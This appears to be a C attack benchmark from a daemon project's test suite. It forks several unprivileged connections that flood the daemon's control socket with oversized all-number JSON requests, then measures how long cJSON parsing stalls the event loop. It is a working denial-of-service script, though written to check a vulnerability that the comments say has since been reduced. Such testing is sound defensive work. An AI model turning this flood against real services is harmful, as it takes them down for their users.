/*
 * control_parse.c - (hostile11) requests of up to CONTROL_MAX_REQUEST
 * (1 MiB) that are all numbers: each is parsed by cJSON on the loop
 * (handle_line, daemon/control.c), 200,000 strtod calls and as many cJSON
 * items, 10 to 20 ms a request. CONTROL_BATCH bounds the requests of one
 * connection a turn (16), not their bytes nor the time; and every
 * connection that is readable is served in the same turn, so the turn
 * grows with the connections a user may hold (16 per uid, 256 in all).
 *
 * Each of CONNS children sends such `status` requests for SECONDS and reads
 * the answers; then the parent prints memtrace_loop_stall_max_seconds.
 *
 * Build: cc -O2 -Iproto -o /tmp/control_parse bench/attacks/control_parse.c
 * Run (as the attacker): setpriv --reuid=65534 --regid=65534 --clear-groups \
 *          /tmp/control_parse RUNDIR METRICS_PORT [CONNS=15] [SECONDS=8]
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/wait.h>
#include <time.h>

#include "attack.h"

static double now_s(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void child(const char *dir, double seconds)
{
	/* Just under the daemon's bound (CONTROL_MAX_REQUEST: 1 MiB when this
	 * was found, 64 KiB since); SIZE overrides. */
	static char req[(1 << 20) - 64];
	size_t cap = getenv("SIZE") != NULL ? (size_t)atol(getenv("SIZE")) : (1 << 16) - 64;
	if (cap > sizeof req)
		cap = sizeof req;
	static char sink[1 << 16];
	size_t len = (size_t)snprintf(req, cap, "{\"cmd\":\"status\",\"pad\":[1e5");
	int fd = attack_connect(dir, "control.sock");
	double end = now_s() + seconds;
	size_t off = 0;

	while (len + 8 < cap)
		len += (size_t)snprintf(req + len, cap - len, ",1e5");
	len += (size_t)snprintf(req + len, cap - len, "]}\n");
	while (now_s() < end) {
		struct pollfd p = {fd, POLLIN | POLLOUT, 0};
		if (poll(&p, 1, 100) < 0)
			break;
		if (p.revents & POLLIN)
			if (read(fd, sink, sizeof sink) <= 0)
				break;
		if (p.revents & POLLOUT) {
			ssize_t w = send(fd, req + off, len - off, MSG_NOSIGNAL | MSG_DONTWAIT);
			if (w < 0)
				break;
			off = (off + (size_t)w) % len;
		}
	}
	close(fd);
}

int main(int argc, char **argv)
{
	if (argc < 3) {
		fprintf(stderr, "usage: control_parse RUNDIR PORT [CONNS] [SECONDS]\n");
		return 2;
	}
	int port = atoi(argv[2]);
	int conns = argc > 3 ? atoi(argv[3]) : 15;
	double seconds = argc > 4 ? atof(argv[4]) : 8;

	printf("before: stall max %.3f s\n", attack_metrics_stall(port));
	fflush(stdout);
	for (int i = 0; i < conns; i++)
		if (fork() == 0) {
			child(argv[1], seconds);
			_exit(0);
		}
	while (wait(NULL) > 0)
		;
	printf("%d connections of requests of %s bytes for %.0f s: stall max %.3f s\n", conns,
	       getenv("SIZE") != NULL ? getenv("SIZE") : "65472", seconds,
	       attack_metrics_stall(port));
	return 0;
}
